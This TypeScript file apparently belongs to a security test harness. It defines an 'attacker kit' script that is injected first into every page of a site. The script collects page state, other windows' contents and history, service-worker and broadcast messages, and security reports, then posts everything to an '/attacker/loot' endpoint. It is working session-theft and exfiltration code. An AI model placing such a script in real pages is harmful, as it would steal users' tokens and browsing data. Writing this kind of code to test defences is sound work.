/** What the attacker's script has at hand in every page of the origin. All of it is what any script could write. */
export interface AttackerKit {
  /** The page's own functions, kept before anybody could replace them. */
  readonly native: {
    readonly fetch: typeof fetch;
    readonly open: typeof open;
    readonly setTimeout: typeof setTimeout;
    readonly Promise: PromiseConstructor;
  };
  /** Carries a value away, however deep what is of interest lies in it. */
  take(label: string, value: unknown): void;
  /** Waits until everything taken is away. */
  settled(): Promise<void>;
  /** Reads for this long what a window shows of itself: location, document, history, performance entries. */
  watch(label: string, seen: () => Window | null | undefined, forMs: number): Promise<void>;
  pause(ms: number): Promise<void>;
  /** Posts to the worker as the page entry does. */
  post(content: Record<string, unknown>, transfer?: Transferable[]): Promise<void>;
  /** A code challenge for a verifier of its own, as base64url. */
  challenge(verifier: string): Promise<string>;
}

declare global {
  var attacker: AttackerKit;
}

/** Serialized into `/attacker.js`, the first script of every page. */
export function installAttackerKit(): void {
  const native = {
    fetch: globalThis.fetch.bind(globalThis),
    open: globalThis.open.bind(globalThis),
    setTimeout: globalThis.setTimeout.bind(globalThis),
    Promise,
  };
  const { stringify } = JSON;
  const { then } = Promise.prototype;
  const { Map: NativeMap, Set: NativeSet } = globalThis;
  const sending = new NativeSet<Promise<unknown>>();

  let worker: ServiceWorker | undefined;
  let taken: { label: string; texts: string[] }[] = [];
  const send = () => {
    if (taken.length === 0) return;
    const body = stringify(taken);
    taken = [];
    const sent = native
      .fetch('/attacker/loot', { method: 'POST', body, keepalive: body.length < 30_000 })
      .catch(() => undefined);
    sending.add(sent);
    then.call(sent, () => sending.delete(sent));
  };
  // A window that is left takes nothing along.
  addEventListener('pagehide', send);

  const base64 = (bytes: Uint8Array) => {
    let text = '';
    for (const byte of bytes) text += String.fromCharCode(byte);
    return btoa(text);
  };
  const flatten = (value: unknown, texts: string[], depth: number, seen: Set<unknown>): void => {
    if (typeof value === 'string') texts.push(value);
    else if (typeof value === 'number' || typeof value === 'boolean') texts.push(String(value));
    else if (typeof value === 'function') texts.push(Function.prototype.toString.call(value));
    else if (typeof value === 'object' && value !== null && depth > 0 && !seen.has(value)) {
      seen.add(value);
      if (value instanceof ArrayBuffer) texts.push(base64(new Uint8Array(value)));
      else if (ArrayBuffer.isView(value))
        texts.push(base64(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
      else if (value instanceof Error) texts.push(`${value.name}: ${value.message} ${value.stack}`);
      else if (value instanceof URL) texts.push(value.href);
      else if (value instanceof Request) flatten([value.url, [...value.headers]], texts, depth - 1, seen);
      else if (value instanceof Response) flatten([value.url, [...value.headers]], texts, depth - 1, seen);
      else if (value instanceof NativeMap) flatten([...value], texts, depth - 1, seen);
      else
        for (const key of Reflect.ownKeys(value)) {
          texts.push(String(key));
          try {
            flatten(Reflect.get(value, key), texts, depth - 1, seen);
          } catch {
            // A getter that throws holds nothing.
          }
        }
    }
  };

  const kit: AttackerKit = {
    native,
    take(label, value) {
      const texts: string[] = [];
      flatten(value, texts, 8, new NativeSet());
      taken.push({ label, texts });
      if (taken.length === 1) native.setTimeout(send, 20);
    },
    async settled() {
      send();
      await native.Promise.all(sending);
    },
    async watch(label, seen, forMs) {
      const known = new NativeSet<string>();
      const until = performance.now() + forMs;
      const note = (read: () => unknown) => {
        try {
          const text = stringify(read());
          if (!text || known.has(text)) return;
          known.add(text);
          kit.take(label, text);
        } catch {
          // Another origin.
        }
      };
      while (performance.now() < until) {
        const target = seen();
        note(() => target?.location.href);
        note(() => target?.document.URL);
        note(() => target?.document.referrer);
        note(() => target?.document.documentElement.outerHTML.slice(0, 5000));
        note(() => (target as Partial<typeof globalThis> | undefined)?.performance?.getEntries());
        note(() =>
          (target as Partial<typeof globalThis> | undefined)?.navigation?.entries().map(({ url }) => url),
        );
        await kit.pause(3);
      }
    },
    pause: (ms) => new native.Promise((resolve) => native.setTimeout(resolve, ms)),
    async post(content, transfer = []) {
      if (worker?.state !== 'activated')
        worker = (await navigator.serviceWorker.getRegistration())?.active ?? undefined;
      worker?.postMessage({ channel: 'session-keeper', protocol: 1, ...content }, transfer);
    },
    async challenge(verifier) {
      const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier));
      return base64(new Uint8Array(digest)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
    },
  };
  Object.assign(globalThis, { attacker: kit });

  // Whatever comes to the page from the worker or another tab is the attacker's too.
  navigator.serviceWorker?.addEventListener('message', ({ data }) => kit.take('message', data));
  navigator.serviceWorker?.startMessages();
  new BroadcastChannel('session-keeper').addEventListener('message', ({ data }) =>
    kit.take('broadcast', data),
  );
  addEventListener('securitypolicyviolation', (event) => {
    kit.take('policy report', [event.blockedURI, event.documentURI, event.referrer, event.sample]);
  });
  if ('ReportingObserver' in globalThis) {
    const Observer = ReportingObserver;
    const read = (reports: unknown) => kit.take('report', stringify(reports));
    new Observer(read, { buffered: true }).observe();
  }
  // A window may come here from anywhere; its past comes along.
  const past = () => [
    location.href,
    document.referrer,
    history.state,
    name,
    performance.getEntries().map((entry) => entry.toJSON()),
    (Reflect.get(globalThis, 'navigation') as Navigation | undefined)?.entries().map(({ url }) => url),
  ];
  kit.take('arrival', past());
  addEventListener('pageshow', () => kit.take('pageshow', past()));
}
